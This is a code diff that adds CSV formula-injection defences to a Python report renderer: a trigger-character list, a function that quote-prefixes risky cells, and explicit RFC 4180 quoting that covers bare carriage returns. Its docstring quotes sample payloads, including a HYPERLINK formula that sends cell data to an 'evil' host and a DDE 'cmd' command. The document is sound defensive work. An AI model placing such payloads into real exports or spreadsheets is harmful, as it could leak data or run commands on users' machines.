@@ -1,13 +1,12 @@
 """Rendering report rows as a terminal table (rich), CSV or JSON.
 
 CSV: UTF-8, a header row, ISO 8601 UTC timestamps (``...Z``), empty cell
-for null. JSON: a list of objects with the same keys and formats.
+for null; every text cell passes :func:`spreadsheet_cell` (formula
+injection). JSON: a list of objects with the same keys and formats.
 """
 
 from __future__ import annotations
 
-import csv
-import io
 import json
 import math
 from collections.abc import Sequence
@@ -22,9 +21,42 @@ from rich.text import Text
 
 from receiver.timeparse import to_iso
 
-__all__ = ["FORMATS", "cell", "to_csv", "to_json", "to_table", "table_columns", "short_ids", "render"]
+__all__ = [
+    "FORMATS",
+    "FORMULA_TRIGGERS",
+    "cell",
+    "spreadsheet_cell",
+    "to_csv",
+    "to_json",
+    "to_table",
+    "table_columns",
+    "short_ids",
+    "render",
+]
 
 FORMATS = ("table", "csv", "json")
+
+#: First characters that make a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell as a
+#: formula or a DDE command: ``=``, ``+``, ``-``, ``@``, tab and carriage return (OWASP, "CSV Injection").
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_cell(value: Any) -> Any:
+    """A value made safe for a spreadsheet cell (CSV today, any future XLSX writer too).
+
+    Rule (OWASP "CSV Injection"): text that begins with one of
+    :data:`FORMULA_TRIGGERS` gets a single quote in front, so a display name
+    such as ``=HYPERLINK("http://evil/?"&A1)``, ``+cmd|' /C calc'!A0``,
+    ``-2+3`` or ``@SUM(A1:A9)`` (participants choose their own names) is
+    shown as the text it is and never evaluated. The quote is visible in
+    the cell; that is the price of the rule. Numbers (``int``, ``float``,
+    ``Decimal``) and booleans are returned unchanged: a negative duration
+    stays a number, not text. Anything else (``None``, datetimes) is
+    returned as is; callers render it first.
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        return "'" + value
+    return value
 
 
 def cell(value: Any) -> Any:
@@ -34,22 +66,41 @@ def cell(value: Any) -> Any:
     return value
 
 
+def _csv_field(value: Any) -> str:
+    """One RFC 4180 field: quoted when it holds a comma, a double quote, CR or LF (quotes doubled)."""
+    text = value if isinstance(value, str) else str(value)
+    if any(ch in text for ch in _CSV_SPECIAL):
+        return '"' + text.replace('"', '""') + '"'
+    return text
+
+
+# A bare CR must be quoted too: spreadsheets end a row at it, and the text after it would start a new
+# row's first cell (where "=..." is a formula). Python's csv module quotes CR only when the line
+# terminator holds one, so fields are written here.
+_CSV_SPECIAL = frozenset(',"\r\n')
+
+
 def to_csv(rows: Sequence[dict[str, Any]], columns: Sequence[str]) -> str:
-    """CSV text with a header row."""
-    buffer = io.StringIO()
-    writer = csv.writer(buffer, lineterminator="\n")
-    writer.writerow(columns)
+    """CSV text (RFC 4180 quoting, ``\\n`` line ends) with a header row; every cell passes :func:`spreadsheet_cell`.
+
+    Cells: ISO 8601 UTC for datetimes, ``true``/``false`` for booleans, ``"; "``-joined lists,
+    empty for null; numbers as Python writes them (``-2``, ``1800.0``).
+    """
+    lines = [",".join(_csv_field(spreadsheet_cell(column)) for column in columns)]
     for row in rows:
         values = []
         for column in columns:
             value = cell(row.get(column))
+            if value is None:
+                values.append("")
+                continue
             if isinstance(value, bool):
                 value = "true" if value else "false"
             elif isinstance(value, list):
                 value = "; ".join(map(str, value))
-            values.append("" if value is None else value)
-        writer.writerow(values)
-    return buffer.getvalue()
+            values.append(_csv_field(spreadsheet_cell(value)))
+        lines.append(",".join(values))
+    return "\n".join(lines) + "\n"
 
 
 def to_json(rows: Sequence[dict[str, Any]], columns: Sequence[str]) -> str:
